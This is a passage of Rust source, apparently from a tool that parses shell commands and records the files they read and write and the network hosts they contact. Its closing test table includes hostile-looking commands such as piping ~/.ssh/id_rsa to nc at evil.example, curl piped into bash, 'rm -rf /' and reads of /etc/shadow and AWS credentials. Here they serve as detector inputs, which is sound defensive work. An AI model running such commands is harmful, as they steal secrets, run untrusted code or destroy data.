                if let Some(v) = o.value {
                    self.read(v);
                }
            } else if o.name.is('i', "include")
                && let Some(v) = o.value
            {
                self.read(v);
            }
        }
        let files = if given {
            &p.operands[..]
        } else {
            p.operands.get(1..).unwrap_or(&[])
        };
        for v in files {
            // `var=value` operands are assignments
            if !v.text.split_once('=').is_some_and(|(n, _)| is_name(n)) {
                self.read(*v);
            }
        }
    }

    fn jq(&mut self, args: &[Arg]) {
        let mut i = 0;
        let mut filter_seen = false;
        let mut from_file = false;
        let mut positional = false;
        let mut dashdash = false;
        while let Some(a) = args.get(i) {
            let t = a.text.as_str();
            i += 1;
            if !dashdash && !a.opaque && t.len() > 1 && t.starts_with('-') {
                match t {
                    "--" => dashdash = true,
                    "--arg" | "--argjson" => i += 2,
                    "--slurpfile" | "--rawfile" => {
                        if let Some(f) = args.get(i + 1) {
                            self.read(Val::of(f));
                        }
                        i += 2;
                    }
                    "--args" | "--jsonargs" => positional = true,
                    "--from-file" => from_file = true,
                    "--indent" | "-L" | "--library-path" => i += 1,
                    _ if t.starts_with("--") => {}
                    _ => {
                        from_file |= t.contains('f');
                        if t.ends_with('L') {
                            i += 1;
                        }
                    }
                }
                continue;
            }
            if !filter_seen {
                filter_seen = true;
                if from_file {
                    self.read(Val::of(a)); // the filter's file
                }
                continue;
            }
            if !positional {
                self.read(Val::of(a));
            }
        }
    }

    fn yq(&mut self, args: &[Arg]) {
        let p = parse_args(args, &YQ);
        let mut ops = &p.operands[..];
        if ops
            .first()
            .is_some_and(|v| matches!(v.text, "e" | "eval" | "ea" | "eval-all"))
        {
            ops = &ops[1..];
        }
        let mut given = p.has('\0', "expression");
        for v in p.values('\0', "from-file") {
            given = true;
            self.read(v);
        }
        let in_place = p.has('i', "inplace");
        let files = if given {
            ops
        } else {
            ops.get(1..).unwrap_or(&[])
        };
        for v in files {
            if in_place {
                self.write(*v);
            } else {
                self.read(*v);
            }
        }
    }

    fn writer(&mut self, prog: &str, args: &[Arg]) {
        let spec = match prog {
            "touch" => &TOUCH,
            "mkdir" => &MKDIR,
            "truncate" => &TRUNCATE,
            "shred" => &SHRED,
            _ => &NO_OPTS,
        };
        let p = parse_args(args, spec);
        for v in &p.operands {
            self.write(*v);
        }
        if matches!(prog, "touch" | "truncate") {
            for v in p.values('r', "reference") {
                self.read(v);
            }
        }
    }

    fn chmod(&mut self, prog: &str, args: &[Arg]) {
        let p = parse_args(args, &CHOWN);
        let mut reference = false;
        for v in p.values('\0', "reference") {
            reference = true;
            self.read(v);
        }
        // `chmod -x f`: the mode looks like an option
        let mode_as_option = prog == "chmod"
            && args.iter().any(|a| {
                a.text.len() > 1
                    && a.text.starts_with('-')
                    && a.text[1..].bytes().all(|c| b"rwxXst".contains(&c))
            });
        let skip = usize::from(!reference && !mode_as_option);
        for v in p.operands.iter().skip(skip) {
            self.write(*v);
        }
    }

    fn copy(&mut self, prog: &str, args: &[Arg]) {
        let spec = match prog {
            "install" => &INSTALL,
            "ln" => &LN,
            _ => &CP,
        };
        let p = parse_args(args, spec);
        let target = p.values('t', "target-directory").last();
        let ops = &p.operands;
        match prog {
            "install" if p.has('d', "directory") => {
                for v in ops {
                    self.write(*v);
                }
            }
            // `ln -s target link`: the link is written, the target not read
            "ln" => {
                if let Some(t) = target {
                    self.write(t);
                } else if ops.len() >= 2 {
                    self.write(ops[ops.len() - 1]);
                }
            }
            "mv" => {
                for v in ops.iter().copied().chain(target) {
                    self.write(v);
                }
            }
            _ => {
                if let Some(t) = target {
                    for v in ops {
                        self.read(*v);
                    }
                    self.write(t);
                } else if let [srcs @ .., dst] = &ops[..]
                    && !srcs.is_empty()
                {
                    for v in srcs {
                        self.read(*v);
                    }
                    self.write(*dst);
                }
            }
        }
    }

    fn copy_remote(&mut self, prog: &str, args: &[Arg]) {
        let rsync = prog == "rsync";
        let p = parse_args(args, if rsync { &RSYNC } else { &SCP });
        if let [srcs @ .., dst] = &p.operands[..] {
            for s in srcs {
                match remote_host(*s) {
                    Some(h) => self.facts.network_hosts.push(h),
                    None => self.read(*s),
                }
            }
            match remote_host(*dst) {
                Some(h) => self.facts.network_hosts.push(h),
                // `rsync src` alone lists src
                None if srcs.is_empty() => self.read(*dst),
                None => self.write(*dst),
            }
        }
        for o in &p.opts {
            let Some(v) = o.value else { continue };
            match o.name {
                Name::S('i' | 'F') if !rsync => self.read(v),
                Name::S('J') if !rsync => {
                    for j in v.text.split(',') {
                        self.host(endpoint_host(v.sub(j)));
                    }
                }
                Name::L(
                    "exclude-from" | "include-from" | "files-from" | "password-file" | "read-batch",
                ) if rsync => self.read(v),
                Name::L("log-file" | "write-batch" | "only-write-batch") if rsync => {
                    self.write(v);
                }
                _ => {}
            }
        }
    }

    fn ssh(&mut self, args: &[Arg]) {
        let p = parse_args(args, &SSH);
        if let Some(dest) = p.operands.first() {
            self.host(endpoint_host(*dest));
        }
        self.ssh_options(&p);
        // OpenSSH reads options once more after the destination; the rest is
        // the remote command, which runs elsewhere
        if p.rest < args.len() {
            let again = parse_args(&args[p.rest + 1..], &SSH);
            self.ssh_options(&again);
        }
    }

    fn ssh_options(&mut self, p: &Parsed) {
        for o in &p.opts {
            let Some(v) = o.value else { continue };
            match o.name {
                Name::S('i' | 'F') => self.read(v),
                Name::S('E') => self.write(v),
                Name::S('J') => {
                    for j in v.text.split(',') {
                        self.host(endpoint_host(v.sub(j)));
                    }
                }
                Name::S('W') => self.host(endpoint_host(v)),
                _ => {}
            }
        }
    }

    fn endpoint(&mut self, prog: &str, args: &[Arg]) {
        let spec = match prog {
            "sftp" => &SFTP,
            "mosh" => &MOSH,
            "telnet" => &TELNET,
            _ => &FTP,
        };
        let p = parse_args(args, spec);
        if let Some(v) = p.operands.first() {
            self.host(endpoint_host(*v));
        }
        for o in &p.opts {
            match (prog, o.name, o.value) {
                ("sftp", Name::S('i' | 'F' | 'b'), Some(v)) => self.read(v),
                ("ftp", Name::S('o'), Some(v)) => self.write(v),
                _ => {}
            }
        }
    }

    fn nc(&mut self, args: &[Arg]) {
        let p = parse_args(args, &NC);
        for v in p.values('o', "output") {
            self.write(v);
        }
        if p.has('l', "listen") || p.has('U', "unixsock") {
            return;
        }
        let target = p.operands.iter().find(|v| !v.opaque && !is_port(v.text));
        if let Some(v) = target {
            self.host(clean_host(v.text, v.dynamic));
        }
    }

    fn socat(&mut self, args: &[Arg], depth: usize) {
        let mut i = 0;
        while let Some(a) = args.get(i) {
            let t = a.text.as_str();
            i += 1;
            if t.len() > 1 && t.starts_with('-') {
                if matches!(t, "-b" | "-T" | "-t" | "-lf" | "-L" | "-W" | "-lp" | "-S") {
                    i += 1;
                }
                continue;
            }
            let Some((kind, rest)) = t.split_once(':') else {
                continue;
            };
            let kind = kind.to_ascii_uppercase();
            match kind.as_str() {
                "TCP" | "TCP4" | "TCP6" | "TCP-CONNECT" | "TCP4-CONNECT" | "TCP6-CONNECT"
                | "UDP" | "UDP4" | "UDP6" | "UDP-CONNECT" | "UDP4-CONNECT" | "UDP6-CONNECT"
                | "SSL" | "OPENSSL" | "OPENSSL-CONNECT" | "SOCKS" | "SOCKS4" | "SOCKS4A"
                | "SOCKS5" | "PROXY" | "PROXY-CONNECT" | "SCTP-CONNECT" | "DCCP-CONNECT" => {
                    let host = match rest.strip_prefix('[') {
                        Some(v6) => v6.split(']').next().unwrap_or_default(),
                        None => rest.split([':', ',']).next().unwrap_or_default(),
                    };
                    self.host(clean_host(host, a.dynamic));
                }
                "EXEC" | "SYSTEM" => {
                    let command = rest.split(',').next().unwrap_or_default();
                    self.script(command, depth + 1);
                }
                _ => {}
            }
        }
    }

    fn dig(&mut self, args: &[Arg]) {
        let mut names = Vec::new();
        let mut servers = Vec::new();
        let mut i = 0;
        while let Some(a) = args.get(i) {
            let t = a.text.as_str();
            i += 1;
            if a.opaque || t.starts_with('+') {
                continue;
            }
            if let Some(server) = t.strip_prefix('@') {
                servers.push(Val::of(a).sub(server));
                continue;
            }
            if t.len() > 1 && t.starts_with('-') {
                let c = t.as_bytes()[1];
                if b"bcfkpqtxy".contains(&c) {
                    let value = if t.len() > 2 {
                        Some(Val::of(a).sub(&t[2..]))
                    } else {
                        i += 1;
                        args.get(i - 1).map(Val::of)
                    };
                    match (c, value) {
                        (b'q' | b'x', Some(v)) => names.push(v),
                        (b'f', Some(v)) => self.read(v),
                        _ => {}
                    }
                }
                continue;
            }
            if !is_dns_type(t) {
                names.push(Val::of(a));
            }
        }
        for v in names.into_iter().chain(servers) {
            self.host(clean_host(v.text, v.dynamic).filter(|_| !v.opaque));
        }
    }

    /// `nslookup [-opt=value…] name [server]`, `host [-opts] name [server]`.
    fn lookup(&mut self, prog: &str, args: &[Arg]) {
        let ops: Vec<Val> = if prog == "host" {
            parse_args(args, &HOST).operands
        } else {
            args.iter()
                .filter(|a| !a.text.starts_with('-'))
                .map(Val::of)
                .collect()
        };
        for v in ops.iter().take(2) {
            self.host(clean_host(v.text, v.dynamic).filter(|_| !v.opaque));
        }
    }

    fn psql(&mut self, prog: &str, args: &[Arg]) {
        let p = parse_args(args, if prog == "psql" { &PSQL } else { &PG_DUMP });
        for o in &p.opts {
            let Some(v) = o.value else { continue };
            match o.name {
                Name::S('h') | Name::L("host") => {
                    // a list; a directory is a Unix socket
                    for h in v.text.split(',').filter(|h| !h.starts_with('/')) {
                        self.host(clean_host(h, v.dynamic).filter(|_| !v.opaque));
                    }
                }
                Name::S('d') | Name::L("dbname") => self.conninfo(v),
                Name::S('f') | Name::L("file") if prog == "psql" => self.read(v),
                Name::S('f') | Name::L("file") => self.write(v),
                Name::S('o' | 'L') | Name::L("output" | "log-file") if prog == "psql" => {
                    self.write(v);
                }
                _ => {}
            }
        }
        if let Some(v) = p.operands.first() {
            self.conninfo(*v);
        }
    }

    /// `postgresql://…` or `host=… dbname=…`.
    fn conninfo(&mut self, v: Val) {
        if v.opaque {
            return;
        }
        if v.text.contains("://") {
            self.facts
                .network_hosts
                .extend(url_hosts(v.text, v.dynamic));
        } else {
            for kv in v.text.split_whitespace() {
                if let Some(hs) = kv.strip_prefix("host=") {
                    for h in hs.split(',').filter(|h| !h.starts_with('/')) {
                        self.host(clean_host(h, v.dynamic));
                    }
                }
            }
        }
    }

    fn curl(&mut self, args: &[Arg]) {
        let p = parse_args(args, &CURL);
        for v in &p.operands {
            self.host(url_or_bare_host(*v));
        }
        for o in &p.opts {
            let Some(v) = o.value else { continue };
            match o.name {
                Name::L("url") => self.host(url_or_bare_host(v)),
                Name::S('o' | 'D' | 'c')
                | Name::L(
                    "output" | "dump-header" | "cookie-jar" | "trace" | "trace-ascii" | "stderr"
                    | "libcurl" | "etag-save" | "output-dir",
                ) => self.write(v),
                Name::S('T') | Name::L("upload-file") if v.text != "." => self.read(v),
                Name::S('K')
                | Name::L("config" | "netrc-file" | "key" | "cacert" | "proxy-key") => {
                    self.read(v);
                }
                // a cookie file unless it holds `name=value`
                Name::S('b') | Name::L("cookie") if !v.text.contains('=') => self.read(v),
                Name::S('d') | Name::L("data" | "data-binary" | "data-ascii" | "json") => {
                    if let Some(f) = v.text.strip_prefix('@') {
                        self.read(v.sub(f));
                    }
                }
                // `[name]@file`; `name=…` is content
                Name::L("data-urlencode") if !v.text.contains('=') => {
                    if let Some((_, f)) = v.text.split_once('@') {
                        self.read(v.sub(f));
                    }
                }
                // `name=@file;type=…`, `name=<file`
                Name::S('F') | Name::L("form") => {
                    if let Some((_, value)) = v.text.split_once('=')
                        && let Some(f) = value.strip_prefix(['@', '<'])
                    {
                        self.read(v.sub(f.split(';').next().unwrap_or_default()));
                    }
                }
                Name::S('x')
                | Name::L(
                    "proxy" | "preproxy" | "socks4" | "socks4a" | "socks5" | "socks5-hostname",
                ) => self.host(url_or_bare_host(v)),
                _ => {}
            }
        }
    }

    fn wget(&mut self, args: &[Arg]) {
        let p = parse_args(args, &WGET);
        for v in &p.operands {
            self.host(url_or_bare_host(*v));
        }
        for o in &p.opts {
            let Some(v) = o.value else { continue };
            match o.name {
                Name::S('O' | 'o' | 'a' | 'P')
                | Name::L(
                    "output-document" | "output-file" | "append-output" | "save-cookies"
                    | "directory-prefix",
                ) => self.write(v),
                Name::S('i') | Name::L("input-file") if v.text.contains("://") => {
                    self.host(url_host(v.text, v.dynamic));
                }
                Name::S('i')
                | Name::L(
                    "input-file" | "post-file" | "body-file" | "load-cookies" | "config"
                    | "certificate" | "private-key",
                ) => self.read(v),
                _ => {}
            }
        }
    }

    fn httpie(&mut self, args: &[Arg]) {
        let p = parse_args(args, &HTTPIE);
        let mut ops = p.operands.iter();
        let mut url = ops.next();
        if url.is_some_and(|v| is_http_method(v.text)) {
            url = ops.next();
        }
        if let Some(u) = url {
            // `:3000/x` is localhost
            let local = u.text.starts_with(':') && !u.opaque;
            self.host(if local {
                Some("localhost".to_string())
            } else {
                url_or_bare_host(*u)
            });
        }
        for item in ops {
            if let Some(f) = request_item_file(item.text) {
                self.read(item.sub(f));
            }
        }
        for v in p.values('o', "output") {
            self.write(v);
        }
    }

    fn git(&mut self, args: &[Arg]) {
        let global = parse_args(args, &GIT);
        let Some(sub) = global.operands.first() else {
            return;
        };
        let rest = &args[global.rest + 1..];
        match sub.text {
            "clone" => {
                let p = parse_args(rest, &GIT_CLONE);
                if let Some(repo) = p.operands.first() {
                    match remote_host(*repo) {
                        Some(h) => self.facts.network_hosts.push(h),
                        None => self.read(*repo),
                    }
                }
                if let Some(dir) = p.operands.get(1) {
                    self.write(*dir);
                }
            }
            // a named remote (`origin`): its host is in the repository's config,
            // which the telemetry does not show, so no host is claimed
            "push" | "fetch" | "pull" | "ls-remote" => {
                let p = parse_args(rest, &GIT_REMOTE);
                let repo = p
                    .values('\0', "repo")
                    .last()
                    .or(p.operands.first().copied());
                if let Some(r) = repo {
                    self.host(remote_host(r));
                }
            }
            "rm" | "mv" => {
                for v in parse_args(rest, &GIT_PATHS).operands {
                    self.write(v);
                }
            }
            _ => {}
        }
    }

    fn tar(&mut self, args: &[Arg]) {
        // `tar czf a.tgz dir`: the first word is the option letters
        let old_style;
        let args = match args.first() {
            Some(a)
                if !a.opaque
                    && !a.text.is_empty()
                    && a.text.bytes().all(|c| c.is_ascii_alphabetic()) =>
            {
                let mut v = args.to_vec();
                v[0].text.insert(0, '-');
                old_style = v;
                &old_style[..]
            }
            _ => args,
        };
        #[derive(PartialEq)]
        enum Mode {
            Create,
            Extract,
            List,
        }
        let p = parse_args(args, &TAR);
        let mut mode = None;
        for o in &p.opts {
            let m = match o.name {
                Name::S('c' | 'r' | 'u' | 'A')
                | Name::L("create" | "append" | "update" | "catenate" | "concatenate" | "delete") => {
                    Mode::Create
                }
                Name::S('x') | Name::L("extract" | "get") => Mode::Extract,
                Name::S('t' | 'd') | Name::L("list" | "diff" | "compare") => Mode::List,
                Name::S('T' | 'X') | Name::L("files-from" | "exclude-from") => {
                    if let Some(v) = o.value {
                        self.read(v);
                    }
                    continue;
                }
                _ => continue,
            };
            mode = Some(m);
        }
        let archive = p.values('f', "file").last();
        let dirs: Vec<(usize, Val)> = p
            .opts
            .iter()
            .filter(|o| o.name.is('C', "directory"))
            .filter_map(|o| Some((o.at, o.value?)))
            .collect();
        let dir_for = |k: usize| dirs.iter().rev().find(|(at, _)| *at <= k).map(|d| d.1);
        match mode {
            Some(Mode::Create) => {
                if let Some(a) = archive {
                    self.write(a);
                }
                for (k, v) in p.operands.iter().enumerate() {
                    if !v.opaque {
                        self.path(false, join_dir(dir_for(k), *v));
                    }
                }
            }
            Some(Mode::Extract) => {
                if let Some(a) = archive {
                    self.read(a);
                }
                if p.operands.is_empty() {
                    if let Some((_, d)) = dirs.last() {
                        self.write(*d);
                    }
                } else {
                    for (k, v) in p.operands.iter().enumerate() {
                        if !v.opaque {
                            self.path(true, join_dir(dir_for(k), *v));
                        }
                    }
                }
            }
            Some(Mode::List) => {
                if let Some(a) = archive {
                    self.read(a);
                }
            }
            None => {}
        }
    }

    fn unzip(&mut self, args: &[Arg]) {
        let p = parse_args(args, &UNZIP);
        if let Some(a) = p.operands.first() {
            self.read(*a);
        }
        let extracts = !p
            .opts
            .iter()
            .any(|o| matches!(o.name, Name::S('l' | 't' | 'p' | 'c' | 'v' | 'z' | 'Z')));
        if extracts {
            for d in p.values('d', "") {
                self.write(d);
            }
        }
    }

    fn find(&mut self, args: &[Arg], depth: usize) {
        let mut i = 0;
        while let Some(a) = args.get(i) {
            match a.text.as_str() {
                "-H" | "-L" | "-P" => i += 1,
                "-D" => i += 2,
                t if t.starts_with("-O") => i += 1,
                _ => break,
            }
        }
        let first = i.min(args.len());
        while args.get(i).is_some_and(|a| {
            let t = a.text.as_str();
            a.opaque || !(t.len() > 1 && t.starts_with('-') || matches!(t, "(" | ")" | "!" | ","))
        }) {
            i += 1;
        }
        let dot;
        let starts = if i > first {
            &args[first..i]
        } else {
            dot = [Arg {
                text: ".".to_string(),
                dynamic: false,
                opaque: false,
                assignment: false,
            }];
            &dot[..]
        };
        while let Some(a) = args.get(i) {
            let t = a.text.as_str();
            i += 1;
            match t {
                "-exec" | "-execdir" | "-ok" | "-okdir" => {
                    let from = i;
                    while args.get(i).is_some_and(|a| a.text != ";" && a.text != "+") {
                        i += 1;
                    }
                    let command = &args[from..i.min(args.len())];
                    i += 1;
                    // as written, `{}` a placeholder; then once per starting
                    // point, `{}` standing for the files under it
                    self.run(&with_placeholder(command, "{}"), depth + 1, None);
                    self.mute += 1;
                    for s in starts.iter().filter(|s| !s.opaque).take(8) {
                        let mut each = with_placeholder(command, "{}");
                        for (w, orig) in each.iter_mut().zip(command) {
                            if orig.text == "{}" {
                                *w = s.clone();
                            }
                        }
                        self.run(&each, depth + 1, None);
                    }
                    self.mute -= 1;
                }
                "-delete" => {
                    for s in starts {
                        self.write(Val::of(s));
                    }
                }
                "-fprint" | "-fprint0" | "-fls" | "-fprintf" => {
                    if let Some(f) = args.get(i) {
                        self.write(Val::of(f));
                    }
                    i += if t == "-fprintf" { 2 } else { 1 };
                }
                "-name" | "-iname" | "-path" | "-ipath" | "-wholename" | "-iwholename"
                | "-regex" | "-iregex" | "-lname" | "-ilname" | "-type" | "-xtype" | "-size"
                | "-perm" | "-user" | "-group" | "-uid" | "-gid" | "-mtime" | "-atime"
                | "-ctime" | "-mmin" | "-amin" | "-cmin" | "-maxdepth" | "-mindepth" | "-links"
                | "-inum" | "-samefile" | "-used" | "-fstype" | "-context" | "-printf"
                | "-regextype" | "-files0-from" => i += 1,
                t if t.starts_with("-newer") || t == "-anewer" || t == "-cnewer" => i += 1,
                _ => {}
            }
        }
    }

    fn xargs(&mut self, args: &[Arg], depth: usize) {
        let p = parse_args(args, &XARGS);
        for v in p.values('a', "arg-file") {
            self.read(v);
        }
        let mut placeholder = None;
        for o in &p.opts {
            match (o.name, o.value) {
                (Name::S('I' | 'J') | Name::L("replace"), Some(v)) => placeholder = Some(v.text),
                (Name::S('i') | Name::L("replace"), None) => placeholder = Some("{}"),
                _ => {}
            }
        }
        let command = &args[p.rest.min(args.len())..];
        if command.is_empty() {
            return; // echo
        }
        // the arguments read from stdin are unknown; a placeholder is no path
        let command = match placeholder {
            Some(ph) if !ph.is_empty() => with_placeholder(command, ph),
            _ => command.to_vec(),
        };
        self.run(&command, depth + 1, None);
    }

    fn shell(&mut self, args: &[Arg], depth: usize, stdin: Option<&str>) {
        let mut i = 0;
        let mut command = false;
        let mut from_stdin = false;
        while let Some(a) = args.get(i) {
            let t = a.text.as_str();
            if a.opaque || t.len() < 2 || !t.starts_with(['-', '+']) {
                break;
            }
            i += 1;
            if t == "--" {
                break;
            }
            if t.starts_with("--") {
                if matches!(t, "--rcfile" | "--init-file") {
                    i += 1;
                }
                continue;
            }
            for ch in t[1..].chars() {
                match ch {
                    'c' => command = true,
                    's' => from_stdin = true,
                    'o' | 'O' => i += 1, // `-o pipefail`, `-euo pipefail`
                    _ => {}
                }
            }
        }
        let operands = args.get(i..).unwrap_or(&[]);
        if command {
            if let Some(s) = operands.first().filter(|s| !s.opaque) {
                self.script(&s.text, depth + 1);
            }
        } else if let Some(f) = operands.first().filter(|f| !from_stdin && f.text != "-") {
            self.read(Val::of(f)); // a script file
        } else if let Some(s) = stdin {
            self.script(s, depth + 1);
        }
    }

    /// Inline code of an interpreter (`python -c`, `node -e`, …), or its stdin
    /// when it runs no script: URL literals are hosts.
    fn code_flags(
        &mut self,
        args: &[Arg],
        code: &[&str],
        takes_value: &[&str],
        stdin: Option<&str>,
    ) {
        let mut i = 0;
        let mut found = false;
        while let Some(a) = args.get(i) {
            let t = a.text.as_str();
            i += 1;
            if a.opaque || !t.starts_with('-') {
                if !found {
                    return; // a script file (or a module): not analysed
                }
                break;
            }
            if t == "-" {
                break;
            }
            if code.contains(&t) {
                if let Some(c) = args.get(i) {
                    self.urls_in(&c.text);
                }
                found = true;
                i += 1;
            } else if let Some(c) = code.iter().find_map(|f| {
                t.strip_prefix(f)
                    .and_then(|rest| rest.strip_prefix('='))
                    .filter(|_| f.starts_with("--"))
            }) {
                self.urls_in(c);
                found = true;
            } else if takes_value.contains(&t) {
                i += 1;
            }
        }
        if !found && let Some(s) = stdin {
            self.urls_in(s);
        }
    }

    /// `perl -e`, and `perl -pi -e 's/…/' files` edits the files in place.
    fn perl(&mut self, args: &[Arg], stdin: Option<&str>) {
        let mut i = 0;
        let mut code = false;
        let mut in_place = false;
        let mut lines = false;
        while let Some(a) = args.get(i) {
            let t = a.text.as_str();
            if a.opaque || t.len() < 2 || !t.starts_with('-') {
                break;
            }
            i += 1;
            if t == "--" {
                break;
            }
            let cluster = &t[1..];
            for (k, ch) in cluster.char_indices() {
                let rest = &cluster[k + ch.len_utf8()..];
                match ch {
                    'e' | 'E' => {
                        if rest.is_empty() {
                            if let Some(c) = args.get(i) {
                                self.urls_in(&c.text);
                            }
                            i += 1;
                        } else {
                            self.urls_in(rest);
                        }
                        code = true;
                        break;
                    }
                    'i' => {
                        in_place = true;
                        break; // the rest is the backup suffix
                    }
                    'n' | 'p' => lines = true,
                    'I' | 'M' | 'm' | 'x' | 'd' | 'D' | 'C' | 'F' | 'V' => break,
                    _ => {}
                }
            }
        }
        let operands = args.get(i..).unwrap_or(&[]);
        if code {
            if lines {
                for v in operands.iter().map(Val::of) {
                    if in_place {
                        self.write(v);
                    } else {
                        self.read(v);
                    }
                }
            }
        } else if operands.first().is_none_or(|o| o.text == "-")
            && let Some(s) = stdin
        {
            self.urls_in(s);
        }
    }

    /// Hosts of the URL literals in interpreter code.
    fn urls_in(&mut self, code: &str) {
        if !self.spend(code.len()) {
            return;
        }
        for (i, _) in code.match_indices("://") {
            let head = &code[..i];
            // after the last character that is not a scheme letter, which may be wider than a byte
            let from = head
                .char_indices()
                .rev()
                .find(|(_, c)| !c.is_ascii_alphanumeric())
                .map_or(0, |(k, c)| k + c.len_utf8());
            let scheme = &head[from..];
            if !["http", "https", "ws", "wss", "ftp"]
                .iter()
                .any(|s| s.eq_ignore_ascii_case(scheme))
            {
                continue;
            }
            let rest = &code[i + 3..];
            let end = rest
                .find(|c: char| c.is_whitespace() || "/?#'\"`<>()[]{}\\,;".contains(c))
                .unwrap_or(rest.len());
            let authority = &rest[..end];
            if let Some(h) = authority.rsplit('@').next() {
                self.host(clean_host(strip_port(h), false));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// `(command, paths_read, paths_written, network_hosts)`: every list asserted.
    type Case = (
        &'static str,
        &'static [&'static str],
        &'static [&'static str],
        &'static [&'static str],
    );

    #[rustfmt::skip]
    const CASES: &[Case] = &[
        // reading
        ("cat ~/.aws/credentials", &["~/.aws/credentials"], &[], &[]),
        ("head -n 20 src/lib.rs", &["src/lib.rs"], &[], &[]),
        ("head -20 src/lib.rs", &["src/lib.rs"], &[], &[]),
        ("tail -c 100 f", &["f"], &[], &[]),
        ("tail -n +5 -f log.txt", &["log.txt"], &[], &[]),
        ("grep -rn TODO src tests", &["src", "tests"], &[], &[]),
        ("grep -A 3 pat f", &["f"], &[], &[]),
        ("grep -e pat f", &["f"], &[], &[]),
        ("grep -f patfile f", &["patfile", "f"], &[], &[]),
        ("grep --include='*.rs' -C 2 foo src", &["src"], &[], &[]),
        ("rg -g '*.rs' pat dir", &["dir"], &[], &[]),
        ("rg --files src", &["src"], &[], &[]),
        ("rg -t rust -e foo -e bar crates", &["crates"], &[], &[]),
        ("sed -n '1,20p' main.rs", &["main.rs"], &[], &[]),
        ("sed -f script.sed in.txt", &["script.sed", "in.txt"], &[], &[]),
        ("awk -F, '{print $1}' data.csv", &["data.csv"], &[], &[]),
        ("awk -v n=1 -f prog.awk x=1 input.txt", &["prog.awk", "input.txt"], &[], &[]),
        ("jq -r '.name' package.json", &["package.json"], &[], &[]),
        ("jq --arg v 1 --slurpfile s extra.json '.a' in.json", &["extra.json", "in.json"], &[], &[]),
        ("cut -d , -f 1 data.csv", &["data.csv"], &[], &[]),
        ("tr a-z A-Z < in.txt > out.txt", &["in.txt"], &["out.txt"], &[]),
        ("diff -u a.rs b.rs", &["a.rs", "b.rs"], &[], &[]),
        ("wc -l < input.txt", &["input.txt"], &[], &[]),
        ("source ./env.sh arg1", &["./env.sh"], &[], &[]),
        ("ls -la", &[], &[], &[]),
        (r#"cat "my file.txt" 'it'\''s.txt'"#, &["my file.txt", "it's.txt"], &[], &[]),
        (r#"cat $HOME/.ssh/id_rsa "$f""#, &["$HOME/.ssh/id_rsa"], &[], &[]),
        // writing
        ("sed -i 's/a/b/' src/x.rs", &[], &["src/x.rs"], &[]),
        ("sed -i '' -e 's/a/b/' f.txt", &[], &["f.txt"], &[]),
        ("sort -o sorted.txt -k 2 names.txt", &["names.txt"], &["sorted.txt"], &[]),
        ("uniq in.txt out.txt", &["in.txt"], &["out.txt"], &[]),
        ("xxd -r dump.hex out.bin", &["dump.hex"], &["out.bin"], &[]),
        ("echo hi > out.txt 2>&1", &[], &["out.txt"], &[]),
        ("echo hi >> log.txt", &[], &["log.txt"], &[]),
        ("make 2> /dev/null", &[], &[], &[]),
        ("cmd &> all.log", &[], &["all.log"], &[]),
        ("exec {fd}> lock; cmd >& both.log 2>&-; cat <> rw.dat <&3", &["rw.dat"], &["lock", "both.log", "rw.dat"], &[]),
        ("cmd | tee a.log b.log", &[], &["a.log", "b.log"], &[]),
        ("cp .env .env.bak", &[".env"], &[".env.bak"], &[]),
        ("cp -t /backup a b", &["a", "b"], &["/backup"], &[]),
        ("mv a b", &[], &["a", "b"], &[]),
        ("rm -rf ./build /", &[], &["./build", "/"], &[]),
        ("touch -d '2020-01-01' stamp", &[], &["stamp"], &[]),
        ("chmod 600 deploy.key", &[], &["deploy.key"], &[]),
        ("chmod -x run.sh", &[], &["run.sh"], &[]),
        ("chown -R www:www /srv", &[], &["/srv"], &[]),
        ("ln -sf /opt/tool/bin/tool /usr/local/bin/tool", &[], &["/usr/local/bin/tool"], &[]),
        ("dd if=/dev/sda of=disk.img bs=1M", &["/dev/sda"], &["disk.img"], &[]),
        ("perl -pi -e 's/a/b/' config.ini", &[], &["config.ini"], &[]),
        ("git rm -r old/", &[], &["old/"], &[]),
        // archives
        ("tar -C dir -xzf a.tgz", &["a.tgz"], &["dir"], &[]),
        ("tar -czf out.tgz src", &["src"], &["out.tgz"], &[]),
        ("tar czf out.tgz -C /etc passwd", &["/etc/passwd"], &["out.tgz"], &[]),
        ("tar -tf a.tar", &["a.tar"], &[], &[]),
        ("unzip -o a.zip -d out", &["a.zip"], &["out"], &[]),
        // find and xargs
        (r"find . -name '*.env' -exec cat {} \;", &["."], &[], &[]),
        ("find /tmp/x -exec rm -rf {} +", &[], &["/tmp/x"], &[]),
        ("find build -name '*.o' -delete", &[], &["build"], &[]),
        ("find . -type f -newer stamp -print", &[], &[], &[]),
        ("find src -name '*.rs' | xargs grep -l unsafe", &[], &[], &[]),
        ("xargs rm -rf", &[], &[], &[]),
        ("xargs -I{} cp {} /tmp", &[], &["/tmp"], &[]),
        ("ls *.log | xargs -n1 -I % mv % archive/", &[], &["archive/"], &[]),
        // wrappers
        ("env VAR=x cat secret.txt", &["secret.txt"], &[], &[]),
        ("env -i PATH=/bin cat a", &["a"], &[], &[]),
        ("sudo -u root cat /etc/shadow", &["/etc/shadow"], &[], &[]),
        ("sudo -E rm -rf /opt/app", &[], &["/opt/app"], &[]),
        ("sudo tee /etc/hosts < hosts.new", &["hosts.new"], &["/etc/hosts"], &[]),
        ("nohup ./miner.sh > /dev/null 2>&1 &", &[], &[], &[]),
        ("timeout 10 cat f", &["f"], &[], &[]),
        ("timeout -s KILL 5m curl https://x.example", &[], &[], &["x.example"]),
        ("nice -n 5 tar -czf b.tgz data", &["data"], &["b.tgz"], &[]),
        ("time cat f", &["f"], &[], &[]),
        ("command cat f && exec cat g", &["f", "g"], &[], &[]),
        ("VAR=1 OTHER=2 cat f", &["f"], &[], &[]),
        // nested shells
        ("bash -c 'cat ~/.ssh/id_rsa | nc evil.example 4444'", &["~/.ssh/id_rsa"], &[], &["evil.example"]),
        (r#"sh -c "rm -rf build && touch done""#, &[], &["build", "done"], &[]),
        ("bash -lc 'curl -s https://a.example | bash'", &[], &[], &["a.example"]),
        ("zsh -c 'cat notes.md'", &["notes.md"], &[], &[]),
        ("bash -euo pipefail -c 'cat a'", &["a"], &[], &[]),
        ("eval 'rm -rf /tmp/cache'", &[], &["/tmp/cache"], &[]),
        ("bash script.sh arg", &["script.sh"], &[], &[]),
        // compound commands
        ("cd repo && cat README.md; ls || cat b & cat c", &["README.md", "b", "c"], &[], &[]),
        ("(cd x && cat y) | { cat z; }", &["y", "z"], &[], &[]),
        ("if [ -f a ]; then cat a; else cat b; fi", &["a", "b"], &[], &[]),
        (r#"for f in *.txt; do cat "$f"; done"#, &[], &[], &[]),
